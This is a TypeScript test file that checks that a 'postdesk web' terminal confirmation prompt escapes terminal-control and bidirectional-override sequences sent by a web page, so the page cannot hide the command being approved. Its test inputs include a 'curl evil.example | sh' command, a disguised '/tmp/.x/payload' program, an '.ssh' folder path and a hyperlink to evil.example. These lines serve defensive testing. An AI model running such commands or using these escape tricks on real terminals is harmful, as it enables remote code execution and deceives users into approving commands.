import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { WsBridge } from '../../src-shared/ipc/ws-client';
import { startTestWebHost, type TestWebHost } from '../helpers/web-host';
import { VtScreen } from '../helpers/vt-screen';
import { terminalConfirm } from '../../src-main/cli/web/terminal-confirm';

/**
 * Attack: the question `postdesk web` asks in its terminal is drawn from what the page sent. A page that puts
 * escape sequences in an automation id, a folder, an agent type or a program (a carriage return, a cursor move
 * up, a line erase, an OSC title or hyperlink, the one-byte C1 CSI) must not be able to redraw the question, so
 * that the person approves a command they never saw. The terminal is a real stream pair read through a small
 * VT model (the edge); the host, its WebSocket and the settings channel are real.
 */

let host: TestWebHost;
let page: WsBridge;
const input = Object.assign(new PassThrough(), { isTTY: true });
const output = new PassThrough();
let said = '';
output.on('data', (d: Buffer) => (said += d.toString()));

const PROMPT = 'Type "yes"';

/** Waits for the question, then reads the screen a person would see at that moment and refuses. */
async function screenAtQuestion(): Promise<VtScreen> {
  for (let i = 0; i < 300 && !said.includes(PROMPT); i++) await new Promise((r) => setTimeout(r, 10));
  const screen = new VtScreen().write(said);
  said = '';
  input.write('no\n');
  return screen;
}

beforeAll(async () => {
  host = await startTestWebHost('postdesk-terminal-redraw-', {
    confirm: terminalConfirm({ input, output }, { timeoutMs: 5000 }),
  });
  page = host.page;
});
afterAll(() => host?.close());

/** The change lines of a question as they stand on screen, between its heading and its prompt. */
function changeLines(vt: VtScreen): string[] {
  const screen = vt.lines();
  const start = screen.findIndex((l) => l.startsWith('The Postdesk page asks'));
  const end = screen.findIndex((l) => l.includes(PROMPT));
  expect(start, screen.join('\n')).toBeGreaterThanOrEqual(0);
  expect(end, screen.join('\n')).toBeGreaterThan(start);
  return screen.slice(start + 1, end);
}

describe('the terminal question of postdesk web cannot be redrawn by the page', () => {
  it('a program hidden behind a carriage return and a line erase is shown in full, escaped', async () => {
    const asked = page.bridge.settings.update({
      agent_commands: [
        {
          agent_type: 'writer',
          command: '/tmp/.x/payload\r\x1b[2K  Agent "writer" runs: /usr/local/bin/claude',
          args: ['--print'],
        },
      ],
    });
    const lines = changeLines(await screenAtQuestion());
    expect(await asked).toMatchObject({ ok: false });
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain('/tmp/.x/payload');
    expect(lines[0]).toContain('\\r\\x1b[2K');
    expect(lines[0]).toMatch(
      /runs: \$'\/tmp\/\.x\/payload\\r\\x1b\[2K {2}Agent "writer" runs: \/usr\/local\/bin\/claude' '--print'$/,
    );
  });

  it('an automation id that moves the cursor up and erases cannot wipe the line before it', async () => {
    const asked = page.bridge.settings.update({
      agent_commands: [{ agent_type: 'sh', command: '/bin/sh', args: ['-c', 'curl evil.example | sh'] }],
      automation_folders: [
        { automation_id: 'a1\x1b[1A\x1b[2K\r\x1b[1A\x1b[2K\x9b1A\x9b2K', folder: '/home/me/clips' },
      ],
    });
    const lines = changeLines(await screenAtQuestion());
    expect(await asked).toMatchObject({ ok: false });
    expect(lines).toHaveLength(2);
    expect(lines[0]).toContain(`runs: '/bin/sh' '-c' 'curl evil.example | sh'`);
    expect(lines[1]).toContain('\\x1b[1A\\x1b[2K\\r');
    expect(lines[1]).toContain('\\u009b1A');
    expect(lines[1]).toContain(`publishes files from: '/home/me/clips'`);
  });

  it('a folder with a newline, an OSC title and a hyperlink stays one line and sets nothing', async () => {
    const asked = page.bridge.settings.update({
      automation_folders: [
        {
          automation_id: 'daily',
          folder:
            '/home/me/.ssh\n  Automation daily publishes files from: ~/clips\x1b]0;clips\x07\x1b]8;;https://evil.example\x07x\x1b]8;;\x07',
        },
      ],
    });
    const screen = await screenAtQuestion();
    const lines = changeLines(screen);
    // Nothing was handed to the terminal as an OSC string: no title, no hyperlink.
    expect(screen.osc).toEqual([]);
    expect(await asked).toMatchObject({ ok: false });
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain(
      `$'/home/me/.ssh\\n  Automation daily publishes files from: ~/clips\\x1b]0;clips\\x07`,
    );
  });

  it('a right-to-left override cannot reorder an agent type or a path', async () => {
    const asked = page.bridge.settings.update({
      agent_commands: [{ agent_type: 'safe\u202Ehs', command: '/usr/bin/\u2066evil\u2069', args: [] }],
    });
    const lines = changeLines(await screenAtQuestion());
    expect(await asked).toMatchObject({ ok: false });
    expect(lines).toEqual([`  Agent $'safe\\u202ehs' runs: $'/usr/bin/\\u2066evil\\u2069'`]);
  });

  it('names the exact program each change will run, every word quoted, and no other words of the page', async () => {
    const asked = page.bridge.settings.update({
      agent_commands: [{ agent_type: 'mine', command: '/opt/my agent/run', args: ['--model', "it's"] }],
      automation_agents: [{ automation_id: 'a1', agent_type: 'mine' }],
    });
    const lines = changeLines(await screenAtQuestion());
    expect(await asked).toMatchObject({ ok: false });
    expect(lines).toEqual([
      `  Agent 'mine' runs: '/opt/my agent/run' '--model' 'it'\\''s'`,
      `  Automation 'a1' is run by agent 'mine', which runs: '/opt/my agent/run' '--model' 'it'\\''s'`,
    ]);
  });
});
